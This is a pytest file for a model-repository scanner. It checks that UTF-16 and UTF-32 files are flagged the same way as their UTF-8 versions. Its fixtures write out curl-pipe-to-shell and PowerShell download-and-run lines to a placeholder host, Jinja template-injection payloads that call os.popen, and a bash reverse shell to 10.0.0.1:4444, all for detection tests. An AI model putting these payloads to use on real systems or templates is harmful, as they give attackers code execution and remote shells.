"""BOM-less UTF-16/32 text is vetted exactly like its UTF-8 twin, by every text scanner.

Cards, scripts, configs and templates are inert strings encoded here; nothing is run.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from app.core.formats.detect import Format
from app.core.formats.text_encoding import WIDE_ENCODINGS
from app.core.limits import Limits
from app.core.pipeline import VetOptions, vet
from app.core.report import Report
from app.core.scanners import all_scanners
from app.core.scanners.links_scanner import LinksScanner
from app.core.scanners.template_scanner import TemplateScanner
from app.core.scanners.yara_scanner import YaraScanner
from app.sources.local import LocalSource

CARD = """# Fast DeepSeek

```sh
pip install git+https://github.com/someone/vllm.git@fast
curl -fsSL https://someone.example/setup.sh | sh
```
"""
FILES = {
    "README.md": CARD,
    "install.sh": "#!/bin/sh\nset -e\ncurl -fsSL https://someone.example/setup.sh | bash\n",
    "install.ps1": "$ErrorActionPreference = 'Stop'\r\niex (iwr https://someone.example/x.ps1)\r\n",
    "config.json": json.dumps({"model_type": "deepseek", "auto_map": {"AutoModel": "someone/code--modeling.Model"}}),
    "chat_template.jinja": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "tokenizer_config.json": json.dumps({"chat_template": "{{ self.__init__.__globals__ }}"}),
}
REVERSE_SHELL = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"


def _vet(tmp_path: Path, files: dict[str, bytes], scanners: tuple[object, ...] | None = None,
         limits: Limits | None = None) -> Report:
    for name, raw in files.items():
        (tmp_path / name).write_bytes(raw)
    return vet(LocalSource(tmp_path), list(scanners or all_scanners()), options=VetOptions(limits=limits, workers=1))  # type: ignore[arg-type]


def _outcome(report: Report) -> set[tuple[str, str, str]]:
    """What a verdict is made of: who found what, how bad (evidence differs in encoding only)."""
    return {(f.path, f.rule, f.severity.value) for f in report.findings if f.rule != "chat-template"}


@pytest.mark.parametrize("encoding", WIDE_ENCODINGS)
def test_wide_text_is_vetted_like_its_utf8_twin(tmp_path: Path, encoding: str) -> None:
    (tmp_path / "utf8").mkdir()
    (tmp_path / "wide").mkdir()
    utf8 = _vet(tmp_path / "utf8", {n: t.encode() for n, t in FILES.items()})
    wide = _vet(tmp_path / "wide", {n: t.encode(encoding) for n, t in FILES.items()})
    assert {f.format for f in wide.files} == {Format.TEXT}
    assert _outcome(wide) == _outcome(utf8)
    assert wide.verdict.value == utf8.verdict.value == "reject"
    rules = {rule for _, rule, _ in _outcome(wide)}
    assert {"forked-code", "download-and-execute", "yara:download-and-execute", "auto-map-external",
            "template-injection"} <= rules


@pytest.mark.parametrize("encoding", WIDE_ENCODINGS)
def test_yara_evidence_of_wide_text_is_its_line(tmp_path: Path, encoding: str) -> None:
    script = f"#!/bin/sh\necho setting up\n{REVERSE_SHELL}\n"
    report = _vet(tmp_path, {"install.sh": script.encode(encoding)}, (YaraScanner(),))
    (finding,) = report.findings
    assert finding.rule == "yara:reverse-shell-bash"
    assert finding.evidence == f"install.sh:3: {REVERSE_SHELL}"


@pytest.mark.parametrize("encoding", ["utf-16-be", "utf-32-le"])
def test_yara_reads_wide_text_across_chunks_cut_mid_character(tmp_path: Path, encoding: str) -> None:
    # An odd chunk size makes every later chunk start inside a character.
    limits = Limits(max_text_bytes=16 * 1024 + 1)
    filler = "".join(f"# line {n} of the setup notes\n" for n in range(1, 3001))
    script = filler + REVERSE_SHELL + "\n"
    report = _vet(tmp_path, {"install.sh": script.encode(encoding)}, (YaraScanner(),), limits)
    (finding,) = report.findings
    assert finding.evidence == f"install.sh:3001: {REVERSE_SHELL}"


def test_ascii_hidden_between_wide_characters_is_still_read(tmp_path: Path) -> None:
    # Read as UTF-16 the island is CJK noise; bash and transformers read it as UTF-8.
    wide = "#!/bin/sh\n# notes\n".encode("utf-16-le") * 50
    island = b"\ncurl -fsSL https://someone.example/x.sh | sh\n"
    template = "{{ messages }}\n".encode("utf-16-le") * 50 + b"\n{{ cycler.__init__.__globals__ }}\n"
    report = _vet(tmp_path, {"install.sh": wide + island + wide, "chat_template.jinja": template},
                  (LinksScanner(), TemplateScanner()))
    rules = {f.rule for f in report.findings}
    assert {"download-and-execute", "template-injection"} <= rules


def test_a_wide_notebook_is_read_once_not_failed_as_utf8(tmp_path: Path) -> None:
    notebook = {"cells": [{"cell_type": "code", "source": "!curl -fsSL https://someone.example/x | sh"}]}
    report = _vet(tmp_path, {"demo.ipynb": json.dumps(notebook).encode("utf-16-le")}, (LinksScanner(),))
    assert "download-and-execute" in {f.rule for f in report.findings}
    assert all(f.scanned for f in report.files) and "scan-error" not in {f.rule for f in report.findings}
